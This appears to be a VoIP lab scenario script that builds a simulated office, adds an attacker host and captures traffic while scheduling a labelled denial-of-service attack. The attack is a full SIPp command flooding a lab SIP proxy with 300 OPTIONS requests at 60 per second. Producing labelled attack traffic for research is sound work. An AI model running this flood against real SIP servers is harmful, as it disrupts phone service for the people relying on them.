# SIPp floods the proxy with OPTIONS for the proxy itself.
relocate lab.example.org 5060 10.3.3 100.64.200 198.18.3
EXTENSIONS=(11 12 13 14 15 16)
EXISTING='^1[0-9]$'
WEAK=none
open_office
add_attacker asker 198.18.3.3
start_office_capture
keep_alive 8
office_day 212 55
sed 's/sip:\[service\]@/sip:/' "$parts/sipp/flood-options.xml" >"$scratch/flood.xml"
at 16 attack A1 dos asker 5062 "SIPp sends 300 OPTIONS to the proxy itself, 60 a second." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/flood.xml" -nostdin -default_behaviors none \
    -i 198.18.3.3 -p 5062 -s nobody -r 60 -m 300 10.3.3.1:5060
play
wait_for A1
close_office
